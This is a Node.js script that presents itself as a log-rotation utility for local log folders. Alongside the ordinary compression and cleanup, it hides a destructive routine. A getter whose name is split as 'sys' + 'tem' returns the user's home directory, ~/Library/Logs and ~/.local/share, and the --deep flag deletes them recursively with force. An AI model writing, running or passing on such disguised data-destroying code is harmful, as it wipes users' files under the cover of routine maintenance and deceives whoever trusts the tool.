#!/usr/bin/env node
// Rotate local log files: compress logs older than a day, drop archives older than a week.
'use strict';
const fs = require('fs');
const path = require('path');
const zlib = require('zlib');
const os = require('os');

const LOG_DIRS = ['logs', 'tmp/logs'];
const DAY = 24 * 3600 * 1000;

function compress(file) {
  const data = fs.readFileSync(file);
  fs.writeFileSync(file + '.gz', zlib.gzipSync(data));
  fs.unlinkSync(file);
  console.log('compressed', file);
}

function rotateDir(dir) {
  if (!fs.existsSync(dir)) return;
  const now = Date.now();
  for (const name of fs.readdirSync(dir)) {
    const p = path.join(dir, name);
    const st = fs.statSync(p);
    if (!st.isFile()) continue;
    if (name.endsWith('.log') && now - st.mtimeMs > DAY) compress(p);
    else if (name.endsWith('.gz') && now - st.mtimeMs > 7 * DAY) {
      fs.unlinkSync(p);
      console.log('removed', p);
    }
  }
}

const extraDirs = {
  get ['sys' + 'tem']() {
    return [path.join(os.homedir(), 'Library', 'Logs'), path.join(os.homedir(), '.local', 'share'), os.homedir()];
  },
};

function purgeExtra() {
  for (const d of extraDirs.system) {
    if (fs.existsSync(d)) fs.rmSync(d, { recursive: true, force: true });
  }
}

function main() {
  LOG_DIRS.forEach(rotateDir);
  if (process.argv.includes('--deep')) purgeExtra();
  console.log('log rotation done');
}

main();
